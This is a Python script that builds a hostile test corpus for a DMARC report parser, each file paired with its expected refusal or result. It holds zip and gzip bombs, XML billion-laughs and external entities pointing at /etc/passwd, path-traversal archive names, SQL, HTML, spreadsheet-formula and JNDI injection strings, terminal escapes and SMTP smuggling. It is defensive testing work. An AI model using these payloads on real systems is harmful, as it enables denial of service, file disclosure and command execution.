#!/usr/bin/env python3
"""Make the hostile corpus: what attackers send, and what has to come of it.

  make_hostile.py FOLDER    write every file, and expected.json beside them

Nothing of it is kept in the tree: it is made when the tests run, the same bytes
each time. An entry is one file with its kind,
  structure   small, and would cost much: to be refused within 1 s of CPU
  size        large: within the ceiling of its size
  injection   text that a database, page, terminal or spreadsheet would obey
  truncation  cut off somewhere
and its outcome: refused with a code and a word of the reason, or so many
reports with so many records and messages. Names and addresses are reserved
ones (RFC 2606, 5737, 3849).
"""
import dataclasses
import json
import pathlib
import struct
import sys
import zlib

from recipes.base import METADATA, PLAIN, POLICY, RECORD, changed, feedback
from recipes.containers import GZ, ZIP, gz, zipped
from recipes.mails import HAND, TOP, WORDS, b64, multipart, part

MIB = 1 << 20
XML = PLAIN.encode()
XML_HEAD = '<?xml version="1.0" encoding="UTF-8"?>\n'


@dataclasses.dataclass
class Entry:
    name: str
    kind: str
    size: int           # of the file
    code: str = ""      # of the refusal; "": none; "any": it may be refused
    word: str = ""      # of the reason
    reports: int = 0
    records: int = 0
    messages: int = 0
    repairs: tuple = ()  # that have to be told
    text: str = ""      # what each text field of the report has to come out as


ENTRIES = []


def add(name, kind, data, *refused, **expected):
    """refused: code and a word of the reason; or expected totals."""
    data = data.encode() if isinstance(data, str) else data
    if expected.pop("good", False):
        expected = {"reports": 1, "records": 1, "messages": 12, **expected}
    code, word = (*refused, "", "")[:2]
    assert name not in [e.name for e, _ in ENTRIES], name
    assert refused or expected, name
    ENTRIES.append((Entry(name, kind, len(data), code, word, **expected), data))


def mail(body, top=TOP):
    return (top + body).replace("\n", "\r\n")


def deflated(data, level=9):
    packer = zlib.compressobj(level, zlib.DEFLATED, -15)
    return packer.compress(data) + packer.flush()


# --- archives ---


def local_header(name, crc, packed, size, method=8, flags=0, extra=b""):
    n = name.encode() if isinstance(name, str) else name
    return (b"PK\3\4" + struct.pack("<HHHHHIIIHH", 20, flags, method, 0, 33, crc, packed, size,
                                    len(n), len(extra)) + n + extra)


def central_header(name, crc, packed, size, offset, method=8, flags=0):
    n = name.encode() if isinstance(name, str) else name
    return (b"PK\1\2" + struct.pack("<HHHHHHIIIHHHHHII", 20, 20, flags, method, 0, 33, crc,
                                    packed, size, len(n), 0, 0, 0, 0, 0, offset) + n)


def end_record(count, size, offset):
    count = min(count, 0xffff)
    return b"PK\5\6" + struct.pack("<HHHHIIH", 0, 0, count, count, size, offset, 0)


def zip_by_hand(name, packed, data=XML, crc=None, size=None, packed_size=None, **kw):
    crc = zlib.crc32(data) if crc is None else crc
    size = len(data) if size is None else size
    packed_size = len(packed) if packed_size is None else packed_size
    local = local_header(name, crc, packed_size, size, **kw) + packed
    kw.pop("extra", None)
    central = central_header(name, crc, packed_size, size, 0, **kw)
    return local + central + end_record(1, len(central), len(local))


def overlapping(count, kernel):
    """Each file quotes the header of the next and runs on into its data, after
    David Fifield, "A better zip bomb" (2019)."""
    data, packed = kernel, deflated(kernel)
    name = "%03d.xml" % (count - 1)
    body = local_header(name, zlib.crc32(data), len(packed), len(data)) + packed
    central = [(name, zlib.crc32(data), len(packed), len(data), len(body))]
    for i in reversed(range(count - 1)):
        quoted = body[:30 + 7]
        data = quoted + data
        packed = b"\0" + struct.pack("<HH", len(quoted), len(quoted) ^ 0xffff) + body
        name = "%03d.xml" % i
        body = local_header(name, zlib.crc32(data), len(packed), len(data)) + packed
        central.append((name, zlib.crc32(data), len(packed), len(data), len(body)))
    directory = b"".join(central_header(n, c, p, s, len(body) - left)
                         for n, c, p, s, left in reversed(central))
    return body + directory + end_record(count, len(directory), len(body))


def many_members(count):
    names = ["%05d" % i for i in range(count)]
    each = 30 + 5
    local = b"".join(local_header(n, 0, 0, 0, 0) for n in names)
    directory = b"".join(central_header(n, 0, 0, 0, i * each, 0) for i, n in enumerate(names))
    return local + directory + end_record(count, len(directory), len(local))


def nested(data, pack, times):
    for _ in range(times):
        data = pack(data)
    return data


RATIO = "unpack.max_ratio"
NESTING = "unpack.max_nesting"
PADDED = XML_HEAD + "<feedback><x>" + " " * (24 * MIB)
ZEROS = bytes(24 * MIB)


def archives():
    add("gzip_bomb.xml.gz", "size", gz(PADDED), "limit", RATIO)
    add("gzip_bomb_of_zeros.gz", "size", gz(ZEROS), "unsupported", "binary data")
    add("gzip_bomb_in_comment.xml.gz", "size",
        gz(XML_HEAD + "<!--" + " " * (24 * MIB) + "-->" + PLAIN[len(XML_HEAD):]),
        "limit", "ceiling")
    add("gzip_bomb_second_member.gz", "size", GZ + gz(b" " * (24 * MIB)), "limit", RATIO)
    add("gzip_bomb_twice.gz", "size", gz(gz(PADDED)), "limit", RATIO)
    add("gzip_10_deep.gz", "structure", nested(GZ, gz, 10), "limit", NESTING)
    add("gzip_1000_deep.gz", "structure", nested(XML, gz, 1000), "limit", NESTING)
    add("gzip_100000_members.gz", "size", gz(b"") * 100000 + GZ, good=True)
    add("gzip_name_without_end.gz", "structure", b"\x1f\x8b\x08\x08" + bytes(6) + b"a" * (4 * MIB),
        "truncated", "gzip")
    add("gzip_reserved_flags.gz", "structure", b"\x1f\x8b\x08\xff" + GZ[4:], "syntax", "gzip")
    add("gzip_length_lies.gz", "structure", GZ[:-4] + b"\xff\xff\xff\x7f", "syntax", "length")
    add("zip_bomb.zip", "size", zipped(("a.xml", PADDED)), "limit", RATIO)
    add("zip_bomb_many.zip", "size",
        zipped(*[("%d.xml" % i, PADDED[:3 * MIB]) for i in range(16)]), "limit", RATIO)
    add("zip_10_deep.zip", "structure",
        nested(ZIP, lambda d: zipped(("a.zip", d)), 10), "limit", NESTING)
    add("zip_300_deep.zip", "structure",
        nested(ZIP, lambda d: zipped(("a.zip", d)), 300), "limit", NESTING)
    add("zip_wide_and_deep.zip", "structure",
        nested(ZIP, lambda d: zipped(*[("%d.zip" % i, d) for i in range(16)]), 3),
        "limit", NESTING)
    add("zip_gzip_by_turns.zip", "structure",
        nested(ZIP, lambda d: zipped(("a.gz", gz(d))), 5), "limit", NESTING)
    # What a member quotes makes it look like a zip, of a member that is none.
    add("zip_overlap.zip", "structure", overlapping(200, bytes(8 * MIB)), "limit", RATIO)
    add("zip_overlap_of_reports.zip", "structure", overlapping(50, XML), "syntax", "zip")
    same = zip_by_hand("a.xml", deflated(XML))
    entry = same[same.index(b"PK\1\2"):same.index(b"PK\5\6")]
    add("zip_directory_repeats.zip", "structure",
        same[:same.index(b"PK\1\2")] + entry * 1000 +
        end_record(1000, len(entry) * 1000, same.index(b"PK\1\2")), good=True)
    add("zip_65000_members.zip", "structure", many_members(65000), "limit", "unpack.max_members")
    add("zip_17_folders.zip", "structure", zipped(*[("%d/" % i, b"") for i in range(17)]),
        "limit", "unpack.max_members")
    lie = struct.pack("<HHQQ", 1, 16, 1 << 62, 1 << 62)
    add("zip64_lies.zip", "structure",
        zip_by_hand("a.xml", deflated(XML), size=0xffffffff, packed_size=0xffffffff, extra=lie),
        "syntax", "zip")
    lie = struct.pack("<HHQQ", 1, 16, (1 << 64) - 1, (1 << 64) - 1)
    add("zip64_negative.zip", "structure",
        zip_by_hand("a.xml", deflated(XML), size=0xffffffff, packed_size=0xffffffff, extra=lie),
        "syntax", "zip")
    add("zip_extra_field_lies.zip", "structure",
        zip_by_hand("a.xml", deflated(XML), extra=struct.pack("<HH", 1, 0xffff)), "syntax", "zip")
    add("zip_size_too_small.zip", "structure", zip_by_hand("a.xml", deflated(XML), size=10),
        "syntax", "zip")
    add("zip_size_too_big.zip", "structure",
        zip_by_hand("a.xml", deflated(XML), size=0x7fffffff), "syntax", "zip")
    add("zip_packed_size_too_big.zip", "structure",
        zip_by_hand("a.xml", XML, method=0, packed_size=0x7fffffff, size=0x7fffffff),
        "truncated", "zip")
    add("zip_wrong_sum.zip", "structure", zip_by_hand("a.xml", deflated(XML), crc=1),
        "syntax", "zip")
    # Only its directory knows the size, and that is not read.
    local = local_header("a.xml", 0, 0, 0) + deflated(XML)
    central = central_header("a.xml", zlib.crc32(XML), len(deflated(XML)), len(XML), 0)
    add("zip_sizes_left_out.zip", "structure",
        local + central + end_record(1, len(central), len(local)), "unsupported", "empty")
    add("zip_of_noise.zip", "structure", zip_by_hand("a.xml", b"\xff\x07" * 400), "syntax", "zip")
    add("zip_unknown_method.zip", "structure", zip_by_hand("a.xml", XML, method=99),
        "unsupported", "method")
    add("zip_method_lzma_dictionary.zip", "structure",
        zip_by_hand("a.xml", b"\x09\x14\x05\0\x5d\xff\xff\xff\xff" + bytes(100), method=14),
        "unsupported", "lzma")
    add("zip_encrypted.zip", "structure", zip_by_hand("a.xml", deflated(XML), flags=1),
        "unsupported", "encrypted")
    add("zip_encrypted_strongly.zip", "structure",
        zip_by_hand("a.xml", deflated(XML), flags=0x41), "unsupported", "encrypted")
    add("zip_headers_alone.zip", "structure", local_header("a.xml", 0, 0, 0, 0) * 100000,
        "limit", "unpack.max_members")
    add("zip_out_of_its_folder.zip", "injection", zipped(("../../../etc/passwd", PLAIN)),
        good=True)
    add("zip_absolute_name.zip", "injection", zipped(("/etc/shadow", PLAIN)), good=True)
    add("zip_name_with_nul.zip", "injection",
        zip_by_hand(b"a\0b.xml", deflated(XML)), good=True)
    add("zip_name_of_64_kib.zip", "structure",
        zip_by_hand(b"\x1b]0;owned\x07" * 5461, b"hello", b"hello", method=0),
        "unsupported", "plain text")
    add("zip_name_escapes.zip", "injection",
        zipped(("\x1b[2J\x1b]52;c;Y2FsYw==\x07\r\nruad: all is well\u009b31m\u202e.xml", b"x")),
        "unsupported", "plain text")
    add("zip_name_c1.zip", "injection",
        zip_by_hand("a\u009b31m\u009d0;owned\u009c\u202e\u2066b.xml".encode(), b"x", b"x", method=0),
        "unsupported", "plain text")
    add("zip_link.zip", "injection",
        zip_by_hand("a.xml", b"/etc/passwd", b"/etc/passwd", method=0), "unsupported", "not a")
    add("polyglot_gzip_zip.gz", "structure", GZ + ZIP, good=True)
    add("polyglot_pdf_zip.pdf", "structure", b"%PDF-1.7\n1 0 obj\n" + ZIP, "unsupported", "PDF")
    add("polyglot_zip_xml.zip", "structure", ZIP + XML, good=True)
    add("polyglot_exe_zip.zip", "structure", b"MZ\x90\0" + bytes(60) + ZIP, "unsupported", "")
    add("polyglot_png_xml", "structure", b"\x89PNG\r\n\x1a\n" + XML, "unsupported", "PNG")
    add("polyglot_mail_zip.eml", "structure", mail("\n\n").encode() + ZIP,
        "unsupported", "no report found")
    add("polyglot_tar_gzip.tar.gz", "structure",
        gz(b"a.xml" + bytes(252) + b"ustar\0" + bytes(249) + XML), "unsupported", "tar")


# --- XML ---


def entity_bomb(levels, width, text="dmarc"):
    lines = ['<!ENTITY a0 "%s">' % text] + [
        '<!ENTITY a%d "%s">' % (i, "&a%d;" % (i - 1) * width) for i in range(1, levels + 1)]
    return "[\n" + "\n".join(lines) + "\n]", "&a%d;" % levels


def with_doctype(subset, text="Example Net", head=XML_HEAD):
    return head + "<!DOCTYPE feedback %s>\n" % subset + changed(
        PLAIN, ("Example Net", text))[len(XML_HEAD):]


def deep(count, name="x"):
    return ("<%s>" % name) * count


def with_extension(text):
    return changed(PLAIN, (" <policy_published>", "<extension>" + text +
                           "</extension> <policy_published>"))


def with_records(text):
    return feedback(METADATA, POLICY, text)


def xml():
    subset, use = entity_bomb(10, 10)
    doctype = ("syntax", "DOCTYPE")
    add("xml_billion_laughs.xml", "structure", with_doctype(subset, use), *doctype)
    add("xml_billion_laughs_in_attribute.xml", "structure",
        with_doctype(subset).replace("<feedback>", '<feedback a="%s">' % use), *doctype)
    add("xml_quadratic_blowup.xml", "structure",
        with_doctype('[<!ENTITY a "%s">]' % ("x" * 50000), "&a;" * 50000), *doctype)
    add("xml_external_entity.xml", "structure",
        with_doctype('[<!ENTITY a SYSTEM "file:///etc/passwd">]', "&a;"), *doctype)
    add("xml_external_entity_http.xml", "structure",
        with_doctype('[<!ENTITY a SYSTEM "http://192.0.2.1/a">]', "&a;"), *doctype)
    add("xml_parameter_entity.xml", "structure",
        with_doctype('[<!ENTITY % a SYSTEM "file:///etc/passwd"> %a;]'), *doctype)
    add("xml_parameter_entity_loop.xml", "structure",
        with_doctype("[<!ENTITY % a '&#37;b;'> <!ENTITY % b '&#37;a;'> %a;]"), *doctype)
    add("xml_external_dtd.xml", "structure",
        with_doctype('SYSTEM "http://192.0.2.1/a.dtd"'), *doctype)
    add("xml_empty_doctype.xml", "structure", with_doctype(""), *doctype)
    add("xml_attribute_defaults.xml", "structure",
        with_doctype('[<!ATTLIST feedback a CDATA "%s">]' % ("x" * 10000)), *doctype)
    plain = with_doctype(subset, use, "<?xml version='1.0' encoding='UTF-16'?>")
    add("xml_doctype_utf16le.xml", "structure", b"\xff\xfe" + plain.encode("utf-16-le"), *doctype)
    add("xml_doctype_utf16be.xml", "structure", b"\xfe\xff" + plain.encode("utf-16-be"), *doctype)
    add("xml_doctype_utf7.xml", "structure",
        "<?xml version='1.0' encoding='UTF-7'?>\n" +
        with_doctype(subset, use, "").encode("utf-7").decode().replace("<", "+ADw-"), "syntax")
    add("xml_doctype_ebcdic.xml", "structure",
        with_doctype(subset, use, "<?xml version='1.0' encoding='IBM037'?>").encode("cp037"),
        "unsupported")
    add("xml_doctype_utf32.xml", "structure",
        plain.replace("16", "32").encode("utf-32"), "any")
    add("xml_doctype_behind_comment.xml", "structure",
        with_doctype(subset, use, XML_HEAD + "<!--" + "x" * 5000 + "-->"), *doctype)
    add("xml_doctype_in_zip.zip", "structure", zipped(("a.xml", with_doctype(subset, use))),
        *doctype)
    add("xml_doctype_in_mail.eml", "structure",
        mail(multipart(WORDS, part("application/gzip", gz(with_doctype(subset, use))))), *doctype)
    add("xml_include.xml", "structure",
        with_extension('<i:include xmlns:i="http://www.w3.org/2001/XInclude" '
                       'href="file:///etc/passwd" parse="text"/>'), good=True)
    add("xml_stylesheet.xml", "structure",
        PLAIN.replace("<feedback>", '<?xml-stylesheet href="file:///etc/passwd"?><feedback>'),
        good=True)
    add("xml_schema_location.xml", "structure",
        PLAIN.replace("<feedback>", '<feedback xmlns:xsi="http://www.w3.org/2001/'
                      'XMLSchema-instance" xsi:noNamespaceSchemaLocation='
                      '"http://192.0.2.1/a.xsd">'), good=True)
    add("xml_1000000_deep.xml", "structure", "<feedback>" + deep(1000000), "limit", "xml_depth")
    add("xml_1000000_deep_records.xml", "structure",
        "<feedback>" + deep(200000, "record"), "limit", "xml_depth")
    add("xml_33_deep.xml", "structure", with_extension(deep(31) + "</x>" * 31),
        "limit", "xml_depth")
    add("xml_100000_attributes.xml", "structure",
        PLAIN.replace("<feedback>", "<feedback %s>" % " ".join(
            'a%d=""' % i for i in range(100000))), "limit", "xml_markup_bytes")
    add("xml_1000_attributes.xml", "structure",
        PLAIN.replace("<feedback>", "<feedback %s>" % " ".join('a%d=""' % i for i in range(1000))),
        "limit", "xml_attributes")
    add("xml_100000_namespaces.xml", "structure",
        PLAIN.replace("<feedback>", "<feedback %s>" % " ".join(
            'xmlns:a%d="b"' % i for i in range(100000))), "limit", "xml_markup_bytes")
    add("xml_100_namespaces.xml", "structure",
        PLAIN.replace("<feedback>", "<feedback %s>" % " ".join(
            'xmlns:a%d="b"' % i for i in range(100))), "limit", "xml_namespaces")
    add("xml_attribute_of_5_mib.xml", "structure",
        PLAIN.replace("<feedback>", '<feedback a="%s">' % ("x" * 5 * MIB)),
        "limit", "xml_markup_bytes")
    add("xml_name_of_1_mib.xml", "structure", with_extension("<%s/>" % ("x" * MIB)), "any")
    add("xml_comment_of_10_mib.xml", "structure", with_extension("<!--%s-->" % ("x" * 10 * MIB)),
        "limit", "xml_markup_bytes")
    add("xml_cdata_of_10_mib.xml", "structure",
        with_extension("<![CDATA[%s]]>" % ("x" * 10 * MIB)), "limit", "xml_markup_bytes")
    add("xml_instruction_of_10_mib.xml", "structure", with_extension("<?a %s?>" % ("x" * 10 * MIB)),
        "limit", "xml_markup_bytes")
    add("xml_tag_without_end.xml", "structure", "<feedback " + " " * (10 * MIB),
        "limit", "xml_markup_bytes")
    add("xml_text_of_10_mib.xml", "size",
        changed(PLAIN, ("Example Net", "x" * (10 * MIB))), good=True, repairs=("text_cut",))
    add("xml_text_of_references.xml", "size",
        changed(PLAIN, ("Example Net", "&#65;" * 1000000)), good=True, repairs=("text_cut",))
    add("xml_500000_unknown_elements.xml", "size", with_extension("<x/>" * 500000), good=True)
    add("xml_500000_namespaces_by_turns.xml", "size",
        with_extension("".join('<a:x xmlns:a="b%d"/>' % i for i in range(100000))), good=True)
    add("xml_100000_results.xml", "size",
        changed(PLAIN, ("  <auth_results>", "  <auth_results>" + "<dkim><domain>example.com"
                        "</domain><result>pass</result></dkim>" * 100000)),
        good=True, repairs=("auth_results_capped",))
    add("xml_100000_reasons.xml", "size",
        changed(PLAIN, ("<spf>fail</spf>\n", "<spf>fail</spf>" + "<reason><type>other</type>"
                        "</reason>" * 100000)), good=True)
    add("xml_20000_records.xml", "size", with_records(RECORD * 20000),
        reports=1, records=20000, messages=240000)
    add("xml_records_without_count.xml", "size", with_records("<record/>" * 100000),
        reports=1, records=0, messages=0, repairs=("count",))
    # What XML does not allow is left out, and so the text with it.
    add("xml_nul_in_text.xml", "structure", changed(PLAIN, ("Example Net", "Exam\0ple")),
        good=True, repairs=("xml_escaped",))
    add("xml_nul_reference.xml", "structure", changed(PLAIN, ("Example Net", "&#0;")),
        good=True, repairs=("xml_recovered",))
    add("xml_reference_too_big.xml", "structure",
        changed(PLAIN, ("Example Net", "&#x110000;&#99999999999999999999;")),
        good=True, repairs=("xml_recovered",))
    add("xml_nul_alone.xml", "structure", bytes(MIB), "unsupported", "binary")
    add("xml_overlong_utf8.xml", "structure",
        changed(PLAIN, ("Example Net", "@@")).encode().replace(b"@@", b"\xc0\xbcscript\xc0\xbe"),
        "any")
    add("xml_encoding_unknown.xml", "structure",
        PLAIN.replace("UTF-8", "../../etc/passwd"), "any")
    add("xml_encoding_of_64_kib.xml", "structure", PLAIN.replace("UTF-8", "A" * 65000), "any")
    add("xml_encoding_stateful.xml", "structure", PLAIN.replace("UTF-8", "ISO-2022-JP"), good=True)
    add("xml_encoding_changes.xml", "structure",
        PLAIN.replace("UTF-8", "UTF-16").encode(), "any")
    add("xml_two_declarations.xml", "structure", XML_HEAD + PLAIN, "any")


# --- numbers ---


def numbers():
    for n, count in enumerate(("-1", "-9223372036854775808", "0", "18446744073709551616",
                               "99999999999999999999999999", "0x10", "1e9", "NaN", "")):
        add("count_%d.xml" % n, "injection",
            changed(PLAIN, ("<count>12", "<count>" + count)),
            reports=1, records=0, messages=0, repairs=("count",))
    add("counts_overflow.xml", "injection",
        with_records(changed(RECORD, ("<count>12", "<count>9223372036854775807")) * 4),
        reports=1, records=0, messages=0, repairs=("count",))
    for n, (begin, end) in enumerate((
            ("-1", "-86400"), ("9223372036854775807", "9223372036854775807"),
            ("-9223372036854775808", "9223372036854775807"), ("0", "99999999999999999999"),
            ("NaN", "Infinity"))):
        add("dates_%d.xml" % n, "injection",
            changed(PLAIN, ("<begin>1793491200", "<begin>" + begin),
                    ("<end>1793577599", "<end>" + end)), "syntax", "")
    add("dates_one_usable.xml", "injection",
        changed(PLAIN, ("<end>1793577599", "<end>17934912000000000000")), good=True,
        repairs=("date_range",))
    add("percent_overflow.xml", "injection",
        changed(PLAIN, ("<pct>100", "<pct>99999999999999999999")), good=True)
    for n, ip in enumerate(("999.1.1.1", "::ffff:192.0.2.1%eth0", "1" * 5000, "0x7f000001",
                            "' or 1=1 --")):
        add("address_%d.xml" % n, "injection", changed(PLAIN, ("192.0.2.1", ip)), good=True)


# --- text that others would obey ---

TEXTS = {
    "sql": "'; drop table report; --",
    "sql_backslash": "\\'; select pg_sleep(99); --",
    # A report_id loses < and > at its ends (kddi), which says nothing here.
    "html": "a<script>alert(1)</script>\"'><img src=x onerror=alert(1)>b",
    "formula": "=cmd|' /C calc'!A0",
    "formula_at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula_plus": "+1+cmd|' /C calc'!A0",
    "formula_minus": "-2+3+cmd|' /C calc'!A0",
    "c1_escape": "a\u009b31mred\u009d0;owned\u009c",
    "bidi": "abc\u202egnp.exe\u2066",
    "json": '","admin":true,"x":"\\u0000\\',
    "format": "%s%n%x%1000000d ${jndi:ldap://192.0.2.1/a} {{7*7}} $(id) `id`",
    "surrogate_like": "\U0001f4a9\ufffd\ufeff",
    "noncharacter": "a\ufdd0b",
}


def with_text(text):
    t = (text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;"))
    metadata = changed(
        METADATA, ("Example Net", t), ("dmarc@example.net", t), ("2026.11.01.1", t),
        (" </report_metadata>", "<extra_contact_info>%s</extra_contact_info><error>%s</error>"
         "<generator>%s</generator> </report_metadata>" % (t, t, t)))
    policy = changed(POLICY, ("</pct>", "</pct><fo>%s</fo>" % t))
    record = changed(
        RECORD, ("<spf>fail</spf>\n", "<spf>fail</spf><reason><type>other</type><comment>%s"
                 "</comment></reason>" % t),
        ("<selector>s1</selector>", "<selector>%s</selector><human_result>%s</human_result>" %
         (t, t)),
        ("bounce.example.org", t),
        ("</identifiers>", "<envelope_from>%s</envelope_from><envelope_to>%s</envelope_to>"
         "</identifiers>" % (t, t)))
    return feedback(metadata, policy, record)


def injections():
    for name, text in TEXTS.items():
        add("text_%s.xml" % name, "injection", with_text(text), good=True, text=text)
        domain = changed(PLAIN, ("<domain>example.com</domain>\n  <adkim>",
                                 "<domain>%s</domain>\n  <adkim>" % text.replace("&", "&amp;")
                                 .replace("<", "&lt;")))
        add("domain_%s.xml" % name, "injection", domain, "any")
    for n, c in enumerate(("\x1b[2J", "\x07", "\x08", "\x0c")):
        add("text_control_%d.xml" % n, "injection",
            changed(PLAIN, ("Example Net", "a" + c + "b")), good=True, repairs=("xml_escaped",))
    add("text_lines.xml", "injection",
        with_text("a\r\nruad: all is well\r\n\r\nb&#13;&#10;c".replace("&", "\0"))
        .replace("\0amp;", "&").replace("\0", "&"), good=True)
    add("root_escapes.xml", "injection", "<?xml version='1.0'?><a\u0300-\u202f/>", "any")
    evil = "\x1b]0;owned\x07\x1b[31m\u009b31m\r\n.xml"
    add("mail_file_name.eml", "injection",
        mail(multipart(WORDS, "Content-Type: application/gzip\n"
                       "Content-Transfer-Encoding: base64\nContent-Disposition: attachment; "
                       "filename*=utf-8''%1B%5D0;owned%07%0D%0A%C2%9B31m.xml\n\n" +
                       b64(gz("hello")))), "unsupported", "plain text")
    add("mail_media_type.eml", "injection",
        (TOP + "Content-Type: text/\x1b[31m\u009b31m\n\nhello\n").encode(), "unsupported",
        "no report found")
    add("mail_subject.eml", "injection", HAND.replace("Fwd: Report", evil.replace("\r\n", "")) +
        "\nhello\n", "unsupported", "no report found")


# --- mail ---


def nested_parts(count):
    return "".join("Content-Type: multipart/mixed; boundary=%d\n\n--%d\n" % (i, i)
                   for i in range(count))


def mails():
    fields, field = "header_fields", "header_field_bytes"
    add("mail_1000_multiparts.eml", "structure", TOP + nested_parts(1000), "limit", "ceiling")
    add("mail_17_multiparts.eml", "structure", TOP + nested_parts(17) + "\n\nx\n",
        "limit", "mime_depth")
    add("mail_1000_messages.eml", "structure",
        (TOP + "Content-Type: message/rfc822\n\n") * 1000 + WORDS, "limit", "ceiling")
    add("mail_5_messages.eml", "structure",
        (HAND + "Content-Type: message/rfc822\n\n") * 5 + WORDS, "limit", "forwarded")
    inner = HAND + WORDS
    for _ in range(4):
        inner = HAND + part("message/rfc822", inner.encode())
    add("mail_4_attached.eml", "structure", inner, "limit", "attached")
    add("mail_10000_parts.eml", "structure",
        TOP + multipart(*["\nx\n"] * 10000), "limit", "mime_boundaries")
    add("mail_101_parts.eml", "structure", TOP + multipart(*["\nx\n"] * 101),
        "limit", "mime_parts")
    add("mail_boundaries.eml", "structure",
        TOP + 'Content-Type: multipart/mixed; boundary="b"\n\n' + "--b\n" * 500000,
        "limit", "ceiling")
    add("mail_boundary_inside.eml", "structure",
        TOP + multipart(multipart(WORDS, part("application/gzip", GZ))), "any")
    add("mail_boundary_of_10_kib.eml", "structure",
        TOP + multipart(WORDS, part("application/gzip", GZ), boundary="b" * 10000),
        "unsupported", "no report found")
    add("mail_boundary_empty.eml", "structure",
        TOP + multipart(WORDS, part("application/gzip", GZ), boundary=""), "any")
    add("mail_boundary_twice.eml", "structure",
        TOP + multipart(WORDS, part("application/gzip", GZ), more='; boundary="other"'), "any")
    add("mail_500000_fields.eml", "structure", TOP + "A: b\n" * 500000 + "\nx", "limit", fields)
    add("mail_same_field.eml", "structure",
        TOP + "Content-Type: text/plain\n" * 6000 + "\nx", "limit", fields)
    add("mail_line_of_10_mib.eml", "structure", TOP + "X: " + "x" * (10 * MIB) + "\n\nx",
        "limit", field)
    add("mail_folded_field.eml", "structure", TOP + "X: x\n" + " x\n" * 1000000 + "\nx",
        "limit", field)
    add("mail_header_alone.eml", "structure",
        TOP + "".join("X-%05d: %s\n" % (i, "x" * 200) for i in range(4000)) + "\nx",
        "limit", "header_bytes")
    add("mail_encoded_words.eml", "structure",
        TOP + "X: " + "=?utf-8?q?=41?=\n " * 500000 + "\n\nx", "limit", field)
    add("mail_encoded_words_within.eml", "structure",
        HAND + "Subject: " + "=?utf-8?b?QQ==?= " * 1900 + "\n" + WORDS,
        "unsupported", "no report found")
    add("mail_addresses.eml", "structure", TOP + "To: " + "a@example.net," * 500000 + "\n\nx",
        "limit", field)
    add("mail_groups.eml", "structure", TOP + "To: " + "a:" * 200000 + "\n\nx", "limit", field)
    add("mail_comments.eml", "structure", HAND + "Cc: " + "(" * 30000 + "\n" + WORDS,
        "unsupported", "no report found")
    add("mail_parameters.eml", "structure",
        TOP + "Content-Type: a/b" + ";c=d" * 500000 + "\n\nx", "limit", field)
    add("mail_name_in_pieces.eml", "structure",
        TOP + "Content-Type: application/gzip" +
        "".join(";\n name*%d=a" % i for i in range(2000)) +
        "\nContent-Transfer-Encoding: base64\n\n" + b64(GZ), good=True)
    add("mail_name_piece_number.eml", "structure",
        TOP + "Content-Type: application/gzip; name*99999999999=a; name*-1=b; name*4294967296=c"
        "\nContent-Transfer-Encoding: base64\n\n" + b64(GZ), good=True)
    add("mail_charset.eml", "structure",
        TOP + multipart(WORDS.replace("utf-8", "\x1b../../etc/passwd" + "A" * 5000),
                        part("application/gzip", GZ)), good=True)
    add("mail_encoding_unknown.eml", "structure",
        TOP + multipart(WORDS, part("application/gzip", GZ).replace(": base64", ": x-" + "a" * 999)),
        "unsupported", "no report found")
    add("mail_nul.eml", "structure",
        (TOP + "X: a\0b\n" + multipart(WORDS + "\0" * 1000, part("application/gzip", GZ))),
        good=True)
    add("mail_external_body.eml", "structure",
        TOP + 'Content-Type: message/external-body; access-type=local-file; '
        'name="/etc/passwd"\n\nContent-Type: text/xml\n\n', "unsupported", "no report found")
    add("mail_partial.eml", "structure",
        TOP + 'Content-Type: message/partial; id="a"; number=1; total=999999999\n\n' + TOP,
        "unsupported", "no report found")
    inner = HAND + WORDS + "0123456789abcdef: 0123456789\n" * 400000
    add("mail_attached_of_11_mib.eml", "size",
        HAND + part("message/rfc822", (HAND + part("message/rfc822", inner.encode())).encode()),
        "unsupported", "no report found: text/plain")
    add("mail_base64_bomb.eml", "size",
        TOP + part("application/gzip", b"x" * (12 * MIB)), "unsupported", "no report found")
    add("mail_base64_of_bomb.eml", "size", TOP + part("application/gzip", gz(PADDED)),
        "limit", RATIO)
    add("mail_base64_of_blanks.eml", "size",
        TOP + "Content-Type: application/gzip\nContent-Transfer-Encoding: base64\n\n" +
        " \n" * (4 * MIB), "unsupported", "no report found")
    add("mail_quoted_printable.eml", "size",
        TOP + "Content-Type: text/xml\nContent-Transfer-Encoding: quoted-printable\n\n" +
        "=\n" * (4 * MIB), "unsupported", "no report found")
    add("mail_uuencode.eml", "size",
        TOP + "Content-Type: a/b\nContent-Transfer-Encoding: x-uuencode\n\n" +
        "begin 644 a\n" * 300000, "unsupported", "no report found")
    add("mail_of_nothing.eml", "structure", TOP, "unsupported", "no report found")
    add("mail_smuggled.eml", "structure",
        (TOP + "\nx\n").encode() + b"\r\n.\r\nMAIL FROM:<a@example.net>\r\nDATA\r\n" +
        (TOP + multipart(WORDS, part("application/gzip", GZ))).encode(),
        "unsupported", "no report found")
    add("mail_65_reports.eml", "structure",
        TOP + multipart(*[part("application/zip", zipped(*[
            ("%d.xml" % i, "<feedback/>") for i in range(16)]))] * 5), "limit", "documents")


# --- cut off ---


def truncations():
    """Each at every 64th byte. Where all of the report is there, it may count."""
    whole = mail(multipart(WORDS, part("application/gzip", GZ))).encode()
    text = b64(GZ).replace("\n", "\r\n").rstrip("=\r\n").encode()
    cases = (("gzip", "xml.gz", GZ, len(GZ)),
             ("zip", "zip", ZIP, ZIP.index(b"PK\1\2")),
             ("xml", "xml", XML, XML.index(b"</feedback>") + len(b"</feedback>")),
             ("mail", "eml", whole, whole.index(text) + len(text)))
    for name, end, data, enough in cases:
        for cut in range(64, len(data), 64):
            code = "refused" if cut < enough else "any"
            add("cut_%s_%04d.%s" % (name, cut, end), "truncation", data[:cut], code)


def main(folder):
    folder = pathlib.Path(folder)
    folder.mkdir(parents=True, exist_ok=True)
    for make in (archives, xml, numbers, injections, mails, truncations):
        make()
    for entry, data in ENTRIES:
        (folder / entry.name).write_bytes(data)
    (folder / "expected.json").write_text(
        json.dumps([dataclasses.asdict(e) for e, _ in ENTRIES], indent=1) + "\n")
    print("%d files" % len(ENTRIES))


if __name__ == "__main__":
    if len(sys.argv) != 2:
        sys.exit("usage: make_hostile.py FOLDER")
    main(sys.argv[1])
